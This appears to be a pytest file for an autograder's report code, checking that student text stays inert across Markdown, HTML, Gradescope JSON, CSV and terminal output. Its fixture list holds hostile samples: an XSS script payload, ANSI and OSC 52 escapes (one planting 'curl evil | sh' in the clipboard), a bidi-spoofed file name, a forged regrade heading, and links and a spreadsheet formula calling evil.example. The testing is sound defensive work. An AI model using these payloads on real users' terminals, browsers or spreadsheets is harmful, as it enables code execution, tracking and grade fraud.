"""Student text is data in every output: Markdown, HTML, Gradescope JSON, the class summaries and
the terminal. Each hostile string stands for a kind of attack a student can mount through any
text the grader shows: their file name, an exception message, printed output."""

from __future__ import annotations

import csv
import io
import json

import pytest
from markdown_it import MarkdownIt

from grader.models import CaseResult, GradeResult, ProblemResult, WrittenAnswer
from grader.report import (
    feedback_html,
    feedback_markdown,
    gradescope_json,
    summary_csv,
    summary_markdown,
    summary_table,
)
from grader.report.text import csv_cell, markdown_text, one_line, terminal_text

HOSTILE = {
    "fake-heading": "x\n\n# Instructor note: regrade to 12/12",
    "link": "[click here](http://evil.example/steal)",
    "remote-image": "![pixel](http://evil.example/track.png)",
    "raw-html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "table-cell": "a | 12 | passed",
    "ansi-title-and-clear": "\x1b]0;pwned\x07\x1b[2J\x1b[H",
    "clipboard-write": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "bidi-override": "\u202egnp.exe",
    "formula": '=HYPERLINK("http://evil.example", "grade")',
}


def result_with(text: str) -> GradeResult:
    case = CaseResult(family="small", shape=[2], rel_error=1.0, passed=False, message=text)
    problem = ProblemResult(
        id="p1",
        function="grad_u",
        status="error",
        correct=False,
        score=0,
        max_score=1,
        cases=[case],
        feedback=[
            f"1 of 1 'small' cases failed: {text}",
            f"Your written formula ({text}, cell 1) was not checked automatically: {text}.",
        ],
        output=text,
        written=WrittenAnswer(
            status="not_checked", formula=text, cell=0, detail=text, max_score=1, review=True
        ),
    )
    return GradeResult(
        grader_version="test",
        submission=f"{text}.ipynb",
        student=text,
        assignment="hw2",
        status="graded",
        total=0,
        max_total=1,
        problems=[problem],
        errors=[text],
    )


def rendered_tokens(markdown: str) -> list[str]:
    """Every token type CommonMark with tables sees, inline ones included."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    types = [token.type for token in tokens]
    types += [child.type for token in tokens for child in token.children or []]
    return types


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_markdown_feedback_shows_student_text_as_text(text: str) -> None:
    result = result_with(text)
    types = rendered_tokens(feedback_markdown(result))
    assert types.count("heading_open") == 2  # the page's and problem p1's, none of the student's
    assert not {"link_open", "image", "html_inline", "html_block", "s_open"} & set(types)
    assert types.count("th_open") == 6  # the problem table's six columns, no extra cells


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_html_feedback_has_no_student_markup(text: str) -> None:
    page = feedback_html(result_with(text))
    for tag in ("<script", "<img", "<a ", "<h1>Instructor"):
        assert tag not in page
    assert "\x1b" not in page and "\u202e" not in page


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_gradescope_output_is_escaped_markdown(text: str) -> None:
    document = json.loads(gradescope_json(result_with(text)))
    for output in [document["output"], *(test["output"] for test in document["tests"])]:
        types = rendered_tokens(output)
        assert not {"heading_open", "link_open", "image", "html_inline", "html_block"} & set(types)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_class_summaries_keep_student_text_inert(text: str) -> None:
    results = [result_with(text)]
    rows = list(csv.reader(io.StringIO(summary_csv(results))))
    assert len(rows) == 2 and not rows[1][0].startswith(("=", "+", "-", "@"))
    types = rendered_tokens(summary_markdown(results))
    assert types.count("heading_open") == 1
    assert not {"link_open", "image", "html_inline", "html_block"} & set(types)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_terminal_table_has_no_control_characters(text: str) -> None:
    table = summary_table(result_with(text))
    assert not any(char in table for char in "\x1b\x07\u202e")
    assert len(table.splitlines()) == 2  # the header and problem p1: no forged lines


@pytest.mark.parametrize(
    ("function", "text", "expected"),
    [
        pytest.param(markdown_text, "# a [b](c)", r"\# a \[b\](c)", id="markdown"),
        pytest.param(markdown_text, "a\nb\r\nc", "a b c", id="markdown-one-line"),
        pytest.param(one_line, "a\x1b[2Jb\u200b", "a[2Jb", id="one-line"),
        pytest.param(terminal_text, "a\x1b]0;t\x07\nb\tc", "a]0;t\nb\tc", id="terminal"),
        pytest.param(csv_cell, "=1+1", "'=1+1", id="csv-formula"),
        pytest.param(csv_cell, "@SUM(A1)", "'@SUM(A1)", id="csv-at"),
        pytest.param(csv_cell, "alice", "alice", id="csv-plain"),
    ],
)
def test_escaping_rules(function: object, text: str, expected: str) -> None:
    assert function(text) == expected  # type: ignore[operator]
